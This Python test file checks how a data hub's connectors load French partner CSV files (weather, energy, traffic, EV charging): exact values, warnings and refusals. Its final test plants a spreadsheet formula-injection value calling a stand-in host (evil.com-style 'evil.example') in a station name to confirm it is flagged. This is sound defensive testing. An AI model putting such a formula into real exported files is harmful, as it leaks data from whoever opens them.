"""The partners' real files (../shared/formats) through the connectors: right values, or a clear refusal."""

from __future__ import annotations

import shutil

import pytest

from tests.conftest import SHARED_FORMATS
from tests.sources.samples import load_file, plain_entry

pytestmark = pytest.mark.skipif(not SHARED_FORMATS.is_dir(), reason="../shared/formats not present")


def _load(warehouse, tmp_path, fmt, relative):
    src = SHARED_FORMATS / relative
    path = tmp_path / src.name
    shutil.copyfile(src, path)
    entry = plain_entry(fmt)
    delivery_id, rows = load_file(warehouse, entry, path)
    issues = warehouse.execute(
        "SELECT code, line, message FROM landing.issues WHERE delivery_id = ? AND severity = 'error' ORDER BY line",
        [delivery_id]).fetchall()
    return entry, rows, issues


def _warnings(warehouse, entry) -> list[tuple[str, int]]:
    return warehouse.execute(
        "SELECT i.code, i.line FROM landing.issues i JOIN landing.deliveries d USING (delivery_id) "
        "WHERE d.dataset_key = ? AND i.severity = 'warning' ORDER BY i.line", [entry.key]).fetchall()


def test_meteo_france_hourly_sample(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "meteo_france_horaire", "meteo/H_01_sample_ARBENT.csv")
    assert (rows, issues) == (1, [])
    got = warehouse.execute(
        f'SELECT num_poste, nom_usuel, lat, lon, alti, aaaammjjhh, rr1, t, tn, tx, u, ff, dd FROM raw."{entry.key}"').fetchone()
    assert got[:5] == ("01014002", "ARBENT", 46.278167, 5.669, 534)
    assert str(got[5]) == "2023-01-01 00:00:00+00:00"
    assert got[6:] == (0.0, 12.3, 11.9, 12.9, 73, 2.6, 200)
    # a one-hour sample is an incomplete day: flagged, not refused
    assert _warnings(warehouse, entry) == [("incomplete_day", 2)]


def test_ore_commune_extract_with_secrecy_cells(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "ore_conso_commune", "energy/ore_conso_elec_gaz_commune_2023_extract.csv")
    assert (rows, issues) == (19, [])
    first = warehouse.execute(
        f'SELECT code_commune, nb_sites, conso_totale_mwh, nombre_d_habitants FROM raw."{entry.key}" WHERE _source_line = 2').fetchone()
    assert first == ("42255", 154, 623.861, 278.0)
    secret = warehouse.execute(
        f'SELECT count(*) FROM raw."{entry.key}" WHERE nb_sites IS NULL AND conso_totale_mwh IS NULL AND conso_moyenne_mwh = 0').fetchone()[0]
    assert secret == 4
    grabels = warehouse.execute(f'SELECT count(*) FROM raw."{entry.key}" WHERE code_commune = \'34116\'').fetchone()[0]
    assert grabels > 0
    # ORE documents the electric-heating rate as a 0–1 ratio; its own extract has 1.31: a warning
    assert ("out_of_range", 5) in _warnings(warehouse, entry)


def test_paris_permanent_counters_extract(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "comptage_routier_horaire", "traffic/paris_comptages_routiers_permanents_extract.csv")
    assert (rows, issues) == (11, [])
    first = warehouse.execute(
        f'SELECT identifiant_arc, date_et_heure_de_comptage, debit_horaire, taux_d_occupation, etat_trafic, geo_point_lat '
        f'FROM raw."{entry.key}" WHERE _source_line = 2').fetchone()
    assert first[0] == "5462" and str(first[1]) == "2025-11-04 16:00:00+00:00"
    assert first[2] is None and first[3] == 5.25 and first[4] == "Fluide" and first[5] == pytest.approx(48.82639270403309)
    # an extract of a few hours per arc: every arc-day is flagged incomplete, nothing is refused
    assert {code for code, _ in _warnings(warehouse, entry)} == {"incomplete_day"}


def test_mobility_counting_sites_without_final_newline(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "comptage_mobilites_site", "traffic/comptage_mobilites_site_exemple.csv")
    assert (rows, issues) == (3, [])
    assert warehouse.execute(f'SELECT count(*) FROM raw."{entry.key}" WHERE fr_insee_code IS NULL').fetchone()[0] == 3


def test_irve_dynamic_official_example(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "irve_dynamique", "irve/exemple-valide-dynamique.csv")
    assert (rows, issues) == (2, [])
    when = warehouse.execute(f'SELECT DISTINCT horodatage FROM raw."{entry.key}"').fetchone()[0]
    assert str(when) == "2022-10-18 12:35:49+00:00"


def test_irve_static_official_example_is_refused_for_its_postal_code(warehouse, tmp_path):
    _, rows, issues = _load(warehouse, tmp_path, "irve_statique", "irve/exemple-valide-statique.csv")
    assert rows == 0
    assert [(code, line) for code, line, _ in issues] == [("unknown_insee_code", 2), ("unknown_insee_code", 3)]
    assert "it is a postal code (INSEE code 75101)" in issues[0][2]


def test_irve_tesla_consolidated_extract_with_extra_columns_and_upper_case_booleans(warehouse, tmp_path):
    entry, rows, issues = _load(warehouse, tmp_path, "irve_statique", "irve/irve_statique_consolide_tesla_extract.csv")
    assert (rows, issues) == (40, [])
    got = warehouse.execute(
        f'SELECT code_insee_commune, longitude, latitude, nbre_pdc, puissance_nominale, prise_type_combo_ccs, prise_type_2 '
        f'FROM raw."{entry.key}" WHERE _source_line = 2').fetchone()
    # 68300 is Sausheim's INSEE code (not the postal code of Saint-Louis): coordinates are [lon, lat]
    assert got == ("68300", 7.388186, 47.782002, 8, 250.0, True, False)


def test_qualicharge_database_export_is_refused_as_another_layout(warehouse, tmp_path):
    _, rows, issues = _load(warehouse, tmp_path, "irve_dynamique", "irve/irve_dynamique_qualicharge_electra_extract.csv")
    assert rows == 0
    assert issues == [("missing_column", 1, "required column 'id_pdc_itinerance' is missing from the header")]


@pytest.mark.parametrize("fmt, relative, column, good, bad", [
    # ORE's commune file writes the sector in words; "Z" is no sector of its specification
    ("ore_conso_commune", "energy/ore_conso_elec_gaz_commune_2023_extract.csv", "code_grand_secteur",
     ",RES,RESIDENTIEL,", ",RES,Z,"),
    # the IRVE dynamic schema's point states: en_service, hors_service, inconnu
    ("irve_dynamique", "irve/exemple-valide-dynamique.csv", "etat_pdc", ",en_service,", ",broken,"),
])
def test_a_code_outside_its_columns_list_is_refused_on_its_line(warehouse, tmp_path, fmt, relative, column, good, bad):
    lines = (SHARED_FORMATS / relative).read_text(encoding="utf-8").splitlines()
    assert good in lines[1]
    lines[1] = lines[1].replace(good, bad, 1)
    path = tmp_path / (SHARED_FORMATS / relative).name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    entry = plain_entry(fmt)
    delivery_id, rows = load_file(warehouse, entry, path)
    assert rows == 0     # the file policy: one bad record refuses the file
    [(code, line, column_name, message)] = warehouse.execute(
        "SELECT code, line, column_name, message FROM landing.issues WHERE delivery_id = ? AND severity = 'error'",
        [delivery_id]).fetchall()
    value = bad.split(",")[-2]
    accepted = ", ".join(entry.spec.column(column).values)
    assert (code, line, column_name) == ("unexpected_value", 2, column)
    assert message == f"{value!r} is not a code of this column (accepted: {accepted})"


def test_a_station_name_written_as_a_formula_loads_with_a_warning(warehouse, tmp_path):
    """A cell a spreadsheet would execute is the partner's text: kept as delivered and said (the
    hub's CSV files prefix it with ', tests/publish/test_publisher.py)."""
    src = SHARED_FORMATS / "irve" / "irve_statique_consolide_tesla_extract.csv"
    lines = src.read_text(encoding="utf-8").splitlines()
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Mulhouse")'
    assert ',"Mulhouse, France",' in lines[1]
    lines[1] = lines[1].replace(',"Mulhouse, France",', ',"' + formula.replace('"', '""') + '",', 1)
    path = tmp_path / src.name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    entry = plain_entry("irve_statique")
    delivery_id, rows = load_file(warehouse, entry, path)
    assert rows == 40
    assert warehouse.execute(f'SELECT nom_station FROM raw."{entry.key}" WHERE _source_line = 2').fetchone() == (formula,)
    assert warehouse.execute(
        "SELECT severity, code, line, column_name, message FROM landing.issues WHERE delivery_id = ?",
        [delivery_id]).fetchall() == [
        ("warning", "formula_like_text", 2, "nom_station",
         f"{formula!r} starts like a spreadsheet formula: kept as delivered, prefixed with ' in the hub's CSV files")]
